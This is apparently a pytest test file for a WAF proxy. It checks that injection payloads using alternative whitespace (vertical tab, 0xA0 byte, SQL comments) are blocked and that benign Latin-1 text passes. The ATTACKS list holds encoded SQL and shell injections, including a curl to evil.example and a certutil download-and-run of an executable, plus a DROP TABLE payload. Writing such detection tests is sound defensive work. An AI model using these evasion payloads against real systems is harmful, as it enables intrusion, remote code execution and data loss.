"""Whitespace a parser skips but a regex author writes as a space (issue 15, evasion variants).

MySQL, shells and cmd.exe read a vertical tab, a form feed, the lone byte 0xA0 (``%a0``, Latin-1
NBSP: invalid UTF-8, so NFKC leaves it) and, for SQL, a comment (``/**/``, ``/**_**/``) where a
space would be. ``ruleclass.alt_whitespace`` widens the SQL, shell and template regexes so;
these cases send the bytes as a client would (already percent-encoded, so ``%a0`` stays one byte,
not the ``%C2%A0`` a UTF-8 encoder would write) and check the default ACL's decision. The benign
side: Latin-1 form text with a real NBSP between words, C comments in code, prose.
"""

from __future__ import annotations

import importlib.util
import sys
from collections.abc import Callable
from types import ModuleType

import pytest

from tests.rules import corpuskit as ck
from tests.rules.generator import MANAGED
from wafproxy.aclfiles import load_web_acl
from wafproxy.engine import CompiledWebACL, WafRequest, evaluate


def _ruleclass() -> ModuleType:
    spec = importlib.util.spec_from_file_location("ruleclass_under_test", MANAGED / "ruleclass.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module  # dataclasses look their module up while the class is made
    spec.loader.exec_module(module)
    return module


@pytest.fixture(scope="module")
def acl() -> CompiledWebACL:
    return load_web_acl(ck.DEFAULT_ACL)


def _query(value: str) -> WafRequest:
    return WafRequest(
        client_ip="203.0.113.20", method="GET", uri_path="/search", query_string="q=" + value,
        headers=(("Host", "app.example"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/118.0")),
    )


def _form(value: str) -> WafRequest:
    body = ("comment=" + value).encode()
    return WafRequest(
        client_ip="203.0.113.20", method="POST", uri_path="/post", body=body, body_size=len(body),
        headers=(("Host", "app.example"), ("Content-Type", "application/x-www-form-urlencoded")),
    )


Carrier = Callable[[str], WafRequest]


@pytest.mark.parametrize(
    ("pattern", "widened"),
    [
        (r"a\s+b", r"a[\s\x0b\xa0]+b"),
        (r"[ \t]+x", r"[ \t\x0b\x0c\xa0]+x"),
        (r"[\s\"]", r"[\s\x0b\xa0\"]"),
        (r"[^\s]x", r"[^\s\x0b\xa0]x"),  # a negated class: still "not whitespace"
        (r"\\s", r"\\s"),  # an escaped backslash, then a literal "s"
        (r"[^ ]\S", r"[^ ]\S"),  # nothing to widen
        (r"[\]] x", r"[\]] x"),  # a leading "]" is a literal, the space after the class is not in one
    ],
)
def test_alt_whitespace_widens_only_whitespace(pattern: str, widened: str) -> None:
    assert _ruleclass().alt_whitespace(pattern) == widened


# Each written for this repository; every separator below is one a parser skips.
ATTACKS = (
    "1%a0or%a0true",  # SQL: NBSP byte as the space
    "1%0bOR%0b1%3D1",  # SQL: vertical tab
    "1%2F%2A%2A_%2A%2A%2FAND%2F%2A%2A_%2A%2A%2F1%3D1",  # SQL: /**_**/ as the space
    "x%22%2F%2A%2A_%2A%2A%2For%2F%2A%2A_%2A%2A%2F%22a%22%3D%22a",
    "1%3B%2F%2A%2A%2FSHUTDOWN--",  # a stacked statement after a comment
    "1%3B%a0SHUTDOWN--",
    "%26%26%a0whoami",  # shell: NBSP byte after the separator
    "%60uname%a0-a%60",
    "%60curl%0bevil.example%60",
    "%7C%0bcmd%a0%2Fc%0bdir",  # cmd.exe
    "%26%0acertutil%a0-urlcache%a0-f%0dhttp%3A%2F%2Fevil.example%2Fa.exe%0aa.exe",
    "%3C%25%3D%a07%2A7%0b%25%3E",  # a template expression with VT / NBSP inside
)

# Latin-1 forms send NBSP as %A0 between words; C comments and prose around SQL and shell words.
BENIGN = (
    "caf%E9%A0cr%E8me%A0or%A0tea",
    "10%A0or%A020%A0items",
    "Tom%A0%26%A0Jerry",
    "int%20a%20%3D%201%3B%20%2F%2A%20or%20true%20%2A%2F%20return%20a%3B",
    "prix%A0%3A%A012%A0%80",
    "see%0bpage%0c2",
    "%2F%2A%2A%20docs%20%2A%2F%20select%20a%20plan",
)


@pytest.mark.parametrize("value", ATTACKS)
@pytest.mark.parametrize("carrier", [_query, _form], ids=["query", "form"])
def test_alternative_whitespace_is_read_as_a_space(value: str, carrier: Carrier, acl: CompiledWebACL) -> None:
    decision = evaluate(acl, carrier(value))
    assert decision.blocked, f"{value!r} passed"


def test_a_stacked_statement_in_a_referer_url_is_blocked(acl: CompiledWebACL) -> None:
    """The regression the engines-agree check found: a comment gap after ";" made hyperscan miss this."""
    request = WafRequest(
        client_ip="203.0.113.20", method="GET", uri_path="/",
        headers=(("Host", "app.example"), ("Referer", "https://shop.example/search?q=1%3B%20DROP%20TABLE%20users--")),
    )
    assert evaluate(acl, request).blocked


@pytest.mark.parametrize("value", BENIGN)
@pytest.mark.parametrize("carrier", [_query, _form], ids=["query", "form"])
def test_real_text_with_those_bytes_passes(value: str, carrier: Carrier, acl: CompiledWebACL) -> None:
    decision = evaluate(acl, carrier(value))
    assert not decision.blocked, f"{value!r} blocked by {decision.terminating_group_rule_id}"
